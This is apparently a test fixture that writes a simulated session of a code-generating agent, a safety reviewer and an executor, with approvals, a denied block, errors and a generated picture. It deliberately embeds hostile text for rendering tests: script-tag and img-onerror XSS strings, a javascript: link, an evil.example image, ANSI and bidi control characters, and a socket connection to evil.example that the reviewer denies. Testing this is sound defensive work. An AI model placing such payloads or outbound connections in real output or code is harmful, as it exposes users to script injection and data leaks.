"""A session as a team makes it: two tasks, four blocks, a denial, an edit, a picture; with hostile text in it."""

from __future__ import annotations

import hashlib
import io
import zlib
from dataclasses import dataclass
from pathlib import Path

from sessions.audit import digest_of
from sessions.events import (
    AnswerEvent,
    ApprovalEvent,
    BlockInfo,
    ErrorEvent,
    ExecutionEvent,
    FileInfo,
    MessageEvent,
    NoticeEvent,
    OutputEvent,
    QuestionEvent,
    ReviewEvent,
    StopEvent,
    TaskEvent,
    Usage,
)
from sessions.store import Store
from sessions.workspace import Workspace

CSV = b"name,amount\nanna,3\nbert,4\n"

SUM = """\
import csv

with open("sales.csv", newline="") as file:
    rows = list(csv.DictReader(file))
total = sum(int(row["amount"]) for row in rows)
print(f"total: {total}")
total
"""

PICTURE = """\
import base64, pathlib

pathlib.Path("plot.png").write_bytes(base64.b64decode("{data}"))
print("saved plot.png")
"""

ASYNC = """\
import asyncio, sys

async def main() -> None:
    print("from a loop")
    print("and an error line", file=sys.stderr)

asyncio.run(main())
sys.exit(0)
"""

HOSTILE = '<script>alert("x")</script><img src=http://evil.example/x.png onerror=alert(1)> \x1b[31mred\u202e ```'


def png() -> bytes:
    """A picture of 120 by 60 points with a red slope."""
    rows = b"".join(
        b"\0" + b"".join(b"\xd0\x30\x30" if x // 2 > y else b"\xf4\xf4\xff" for x in range(120)) for y in range(60)
    )
    out = io.BytesIO()
    out.write(b"\x89PNG\r\n\x1a\n")
    header = (120).to_bytes(4, "big") + (60).to_bytes(4, "big") + b"\x08\x02\0\0\0"
    for kind, data in ((b"IHDR", header), (b"IDAT", zlib.compress(rows)), (b"IEND", b"")):
        out.write(len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big"))
    return out.getvalue()


@dataclass
class Writer:
    """Writes a session the way a team does."""

    store: Store
    session: str
    work_dir: Path
    messages: int = 0

    def message(self, words: str, *blocks: tuple[str, str]) -> MessageEvent:
        self.messages += 1
        fences = "".join(f"\n\n```{language}\n{code}```" for language, code in blocks)
        event = MessageEvent(
            source="code_generator",
            id=f"m{self.messages}",
            text=words + fences,
            blocks=tuple(
                BlockInfo(index=index, language=language, digest=digest_of(language, code), code=code)
                for index, (language, code) in enumerate(blocks)
            ),
            usage=Usage(prompt_tokens=900, completion_tokens=150, calls=1),
        )
        self.store.append(self.session, event)
        return event

    def review(self, message: MessageEvent, *verdicts: tuple[str, str]) -> None:
        blocks = tuple(
            {
                "index": block.index,
                "language": block.language,
                "digest": block.digest,
                "verdict": verdict,
                "reason": reason,
                "findings": []
                if verdict == "allow"
                else [{"rule": "network.socket", "verdict": verdict, "message": f"opens {reason}", "line": 2}],
                "by": "rules" if verdict == "deny" else "model",
            }
            for block, (verdict, reason) in zip(message.blocks, verdicts, strict=True)
        )
        worst = "deny" if "deny" in dict(verdicts) else "ask" if "ask" in dict(verdicts) else "allow"
        digests = tuple(block.digest for block in message.blocks)
        self.store.append(
            self.session,
            ReviewEvent(
                source="safety_reviewer",
                message=message.id,
                verdict=worst,  # type: ignore[arg-type]  # one of the three
                digests=digests,
                blocks=blocks,
            ),
        )

    def ask(self, message: MessageEvent, decision: str, text: str = "") -> None:
        question = QuestionEvent(
            source="code_executor",
            id=f"q-{message.id}",
            kind="run",
            text="May these blocks run?",
            message=message.id,
            digests=tuple(block.digest for block in message.blocks),
            blocks=tuple({"index": block.index, "digest": block.digest} for block in message.blocks),
        )
        self.store.append(self.session, question)
        self.store.append(
            self.session, AnswerEvent(source="user", question=question.id, kind="run", decision=decision, text=text)
        )

    def run(
        self,
        message: MessageEvent,
        block: BlockInfo,
        by: str,
        pieces: tuple[tuple[str, str], ...],
        *,
        exit_code: int = 0,
        files: tuple[str, ...] = (),
        approve: bool = True,
    ) -> None:
        if approve:
            log = self.store.approval_log(self.session)
            log.approved(message.id, block.index, block.digest, by, "policy-1")  # type: ignore[arg-type]
            self.store.append(
                self.session,
                ApprovalEvent(
                    source="code_executor",
                    message=message.id,
                    index=block.index,
                    digest=block.digest,
                    by=by,  # type: ignore[arg-type]
                    policy="policy-1",
                ),
            )
            log.taken(message.id, block.index, block.digest)
        for stream, text in pieces:
            self.store.append(
                self.session,
                OutputEvent(
                    source="code_executor",
                    message=message.id,
                    index=block.index,
                    stream=stream,  # type: ignore[arg-type]
                    text=text,
                ),
            )
        infos = tuple(
            FileInfo(
                path=name,
                size=(self.work_dir / name).stat().st_size,
                sha256=hashlib.sha256((self.work_dir / name).read_bytes()).hexdigest(),
            )
            for name in files
        )
        self.store.append(
            self.session,
            ExecutionEvent(
                source="code_executor",
                message=message.id,
                index=block.index,
                digest=block.digest,
                language=block.language,
                code=block.code,
                exit_code=exit_code,
                duration_s=0.123,
                output="".join(text for _, text in pieces),
                files=infos,
            ),
        )
        Workspace(self.store, self.session, self.work_dir).save()


def write_example(store: Store, work_dir: Path) -> str:
    """The session's identifier. The work directory gets its files."""
    session = store.create(model="gpt-4o-mini")
    writer = Writer(store, session, work_dir)
    (work_dir / "sales.csv").write_bytes(CSV)
    Workspace(store, session, work_dir).save()
    store.append(session, TaskEvent(source="user", text=f"Sum up sales.csv & plot it {HOSTILE}"))

    first = writer.message(
        "I read the file with `csv` and **add up** the amounts:\n\n1. read\n2. add\n\n"
        "| name | amount |\n|---|---|\n| anna | 3 |\n\n![x](http://evil.example/p.png) [link](javascript:alert(1)) "
        "[site](https://example.org) " + HOSTILE.replace("```", ""),
        ("python", SUM),
    )
    writer.review(first, ("allow", "It reads a file of the workspace."))
    store.append(session, MessageEvent(source="safety_reviewer", id="r1", text="allowed", kind="review"))
    writer.run(first, first.blocks[0], "policy", (("stdout", "total"), ("stdout", ": 7\n")))
    store.append(session, MessageEvent(source="user_proxy", id="p1", text="", kind="pass"))

    second = writer.message(
        "Now the plot, and a listing.",
        ("python", PICTURE.format(data=__import__("base64").b64encode(png()).decode())),
        ("bash", 'for word in one two; do echo "$word"; done\nls *.csv\n'),
    )
    writer.review(second, ("ask", "It writes a picture."), ("allow", "It lists files."))
    writer.ask(second, "yes")
    (work_dir / "plot.png").write_bytes(png())
    writer.run(second, second.blocks[0], "human", (("stdout", "saved plot.png\n"),), files=("plot.png",))
    writer.run(second, second.blocks[1], "policy", (("stdout", "one\ntwo\nsales.csv\n"),))
    store.append(session, NoticeEvent(source="program", text="The model was busy: tried again.", kind="retry"))
    store.append(session, StopEvent(source="program", reason="approved", usage=Usage(calls=2), blocks_run=3))

    store.append(session, TaskEvent(source="user", text="And tell the world"))
    third = writer.message(
        "This sends it.", ("python", "import socket\nsocket.create_connection(('evil.example', 80))\n")
    )
    writer.review(third, ("deny", "a connection to the world"))
    fourth = writer.message("Then a loop.", ("python", "1 / 0\n"), ("python", ASYNC))
    writer.review(fourth, ("allow", "It computes."), ("allow", "It computes."))
    writer.run(fourth, fourth.blocks[0], "policy", (("stderr", "ZeroDivisionError: division by zero\n"),), exit_code=1)
    fifth = writer.message("Mended.", ("python", ASYNC))
    writer.review(fifth, ("allow", "It computes."))
    edited = ASYNC.replace("from a loop", "from an edited loop")
    block = BlockInfo(index=0, language="python", digest=digest_of("python", edited), code=edited)
    writer.run(fifth, block, "human", (("stdout", "from an edited loop\n"), ("stderr", "and an error line\n")))
    store.append(session, ErrorEvent(source="program", kind="ModelError", text="The model is gone.", hint="Try again."))
    store.append(session, StopEvent(source="program", reason="error", text="The model is gone.", blocks_run=2))
    return session
